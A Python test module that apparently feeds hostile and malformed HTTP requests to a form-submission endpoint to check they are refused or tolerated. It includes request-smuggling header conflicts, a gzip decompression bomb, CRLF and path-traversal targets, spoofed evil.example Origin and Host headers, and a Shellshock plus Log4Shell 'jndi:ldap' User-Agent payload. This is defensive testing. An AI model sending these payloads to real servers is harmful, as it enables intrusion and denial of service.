"""A good body in a request that is not: lengths, codings, types, keys, methods, versions, targets and odd headers."""

from __future__ import annotations

import gzip
from collections.abc import Iterator

from tests.hostile.cases import FORM_TYPE, SUBMIT, Case, answers, posted, quote_wide
from tests.hostile.wire import request


def refused_requests() -> Iterator[Case]:
    """A body that would be taken, in a request that is not."""
    body = answers()
    length = len(body)
    json_type = f"POST {SUBMIT} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"

    def sent(headers: str, after: bytes = body, line: str = json_type) -> bytes:
        return (line + headers + "\r\n\r\n").encode("latin-1") + after

    for value in (
        "-1",
        "+5",
        "0x10",
        "1e3",
        "",
        "five",
        f"{length}, {length + 1}",
        f"{length} {length}",
        "9" * 30,
    ):
        yield Case(f"Content-Length {value[:20]!r}", sent(f"Content-Length: {value}"))
    yield Case("two lengths", sent(f"Content-Length: {length}\r\nContent-Length: {length - 1}"))
    yield Case("no length", sent("Connection: close"))
    yield Case("too long a length", sent(f"Content-Length: {length + 1}"))
    yield Case("length and chunks", sent(f"Content-Length: {length}\r\nTransfer-Encoding: chunked"))
    chunks = b"%x\r\n" % length + body + b"\r\n0\r\n\r\n"
    for value in (
        "gzip",
        "chunked, gzip",
        "chunked, chunked",
        "\x0bchunked",
        "xchunked",
        "identity, chunked",
    ):
        yield Case(f"Transfer-Encoding {value!r}", sent(f"Transfer-Encoding: {value}", chunks))
    yield Case("two codings", sent("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", chunks))
    for name, wrong in {
        "negative": b"-5\r\nhello\r\n0\r\n\r\n",
        "huge": b"fffffffff\r\n",
        "no end": b"5\r\nhelloX0\r\n\r\n",
        "cut off": chunks[:-7],
        "signed": b"+" + chunks,
        "hex": b"0x" + chunks,
        "endless extension": b"5;" + b"a" * 70_000 + b"\r\nhello\r\n0\r\n\r\n",
        "endless trailers": b"%x\r\n" % length + body + b"\r\n0\r\n" + b"X: y\r\n" * 200 + b"\r\n",
    }.items():
        yield Case(f"chunks: {name}", sent("Transfer-Encoding: chunked", wrong))
    known = f"Content-Length: {length}"
    for name, line in {
        "no colon": "Garbage",
        "begins with a space": " X: y",
        "folded": "X: a\r\n b",
        "a name with a space": "X Y : z",
        "many": "\r\n".join(f"X-{number}: y" for number in range(200)),
        "64 KB": "X: " + "y" * 65_536,
        "64 KB of name": "X" * 65_536 + ": y",
    }.items():
        yield Case(f"header: {name}", sent(f"{line}\r\n{known}"))
    line = f"POST {SUBMIT} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    for value in (
        *(
            "text/plain",
            "text/json",
            "application/jsonp",
            "application/json-seq",
            "application/ld+json",
            "*/*",
        ),
        *(FORM_TYPE, "multipart/form-data; boundary=x", "application/json; charset=latin-1", "json", "\xff"),
        *(
            "application/json, text/html",
            "application/json; charset=utf-8; charset=utf-16",
            "application/json\x00",
        ),
    ):
        yield Case(f"Content-Type {value!r}", sent(f"Content-Type: {value}\r\n{known}", line=line))
    yield Case("no Content-Type", sent(known, line=line))
    yield Case("two Content-Types", sent(f"Content-Type: text/html\r\n{known}"))
    zipped = gzip.compress(body)
    bomb = gzip.compress(b" " * 10_000_000)
    yield Case("gzip", posted(zipped, Content_Encoding="gzip"))
    yield Case("gzip that nobody named", posted(zipped))
    yield Case("a gzip bomb", posted(bomb, Content_Encoding="gzip"))
    yield Case("deflate, twice", posted(body, Content_Encoding="deflate, gzip"))
    for key in (
        *(
            "a b",
            "é",
            "a,b",
            '"a',
            'a"',
            '"a\\"b"',
            "\\",
            "a\tb",
            '""',
            "k" * 256,
            "k" * 60_000,
            '"' + "k" * 256 + '"',
        ),
        *("a;b c", "\x01", "{} {}", "\x7f", "a, a"),
    ):
        named = key.encode("utf-8").decode("latin-1")
        yield Case(f"Idempotency-Key {key[:12]!r}", sent(f"Idempotency-Key: {named}\r\n{known}"))
    yield Case("two keys", sent(f"Idempotency-Key: a\r\nIdempotency-Key: b\r\n{known}"))
    for origin in ("http://evil.example", "null", "https://127.0.0.1", "http://127.0.0.1.evil.example"):
        yield Case(f"Origin {origin}", posted(body, Origin=origin))
    for site in ("cross-site", "same-site", "SAME-ORIGIN", "x"):
        yield Case(f"Sec-Fetch-Site {site}", posted(body, Sec_Fetch_Site=site))
    for method in (
        "GET",
        "HEAD",
        "PUT",
        "PATCH",
        "DELETE",
        "TRACE",
        "CONNECT",
        "BREW",
        "post",
        "P" * 99,
    ):
        yield Case(f"method {method[:9]}", request(method, SUBMIT, body))
        yield Case(
            f"method {method[:9]}, overridden", request(method, SUBMIT, body, X_HTTP_Method_Override="POST")
        )
    for version in (
        "HTTP/0.9",
        "HTTP/2.0",
        "HTTP/9.9",
        "HTTP/1.1.1",
        "HTTP/x",
        "FTP/1.1",
        "http/1.1",
        "HTTP/-1.1",
    ):
        yield Case(f"version {version}", sent(known, line=json_type.replace("HTTP/1.1", version)))
    for target in (
        *(
            SUBMIT.replace("funding-claim", name)
            for name in ("nothing", "%00", "..", "funding-claim%00", "FUNDING-CLAIM")
        ),
        *(
            SUBMIT + end
            for end in ("//", "/x", "?version=0", "?version=2", "?version=-1", "?version=1e0", "?version=1.0")
        ),
        *(
            SUBMIT + end
            for end in ("?version=١", "?version=%00", "?version=" + "9" * 5000, "?duplicate_ok=1", ".json")
        ),
        *(
            SUBMIT.replace("/forms/", between)
            for between in ("//forms/", "/%66orms%2f", "/./forms/", "/x/../forms/")
        ),
        *(SUBMIT + "\x00", SUBMIT + "%0d%0aX:%20y", "/" + "a" * 70_000, SUBMIT + "?" + "a=b&" * 20_000),
    ):
        yield Case(f"target {target[-24:]!r}", request("POST", quote_wide(target), body))
    for name, raw in {
        "not HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        "no line": b"\x00" * 70_000,
        "one word": b"POST\r\n\r\n",
        "four words": b"POST / x HTTP/1.1\r\n\r\n",
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "simple post": f"POST {SUBMIT}\r\n".encode() + body,
    }.items():
        yield Case(name, raw)


def odd_headers() -> Iterator[dict[str, str]]:
    """Headers that are no reason to fail."""
    yield {"Accept": "*/*;q=" + "9" * 4000}
    yield {"Accept": "text/" + "x," * 9000}
    yield {"Accept": "application/xml"}
    yield {"Accept_Language": "%s" * 2000}
    yield {"Host": "evil.example"}
    yield {"Host": "127.0.0.1:99999999"}
    yield {"Host": "[::1"}
    yield {"Host": "a\\b@c/d"}
    yield {"X_Forwarded_Host": "evil.example", "X_Forwarded_Proto": "gopher", "Forwarded": "host=evil"}
    yield {"X_HTTP_Method_Override": "DELETE", "X_Original_URL": "/desk", "X_Rewrite_URL": "/desk"}
    yield {"Cookie": "session=" + "a" * 30_000}
    yield {"Cookie": ";;;=;=;session;__Host-session==;\xff=\xff"}
    yield {"Cookie": "; ".join(f"a{number}=b" for number in range(5000))}
    yield {"Authorization": "Bearer"}
    yield {"Authorization": "Bearer " + "a" * 40_000}
    yield {"Authorization": "Bearer \u00e9 é"}
    yield {"Authorization": "Basic Og=="}
    yield {"Range": "bytes=0-,0-,0-", "If_Match": '"', "If_Modified_Since": "never", "TE": "x"}
    yield {"Upgrade": "h2c", "Connection": "Upgrade, close", "HTTP2_Settings": "AA"}
    yield {"Expect": "100-continue"}
    yield {"Expect": "the-unexpected"}
    yield {"User_Agent": "() { :;}; echo ${jndi:ldap://x.invalid}"}
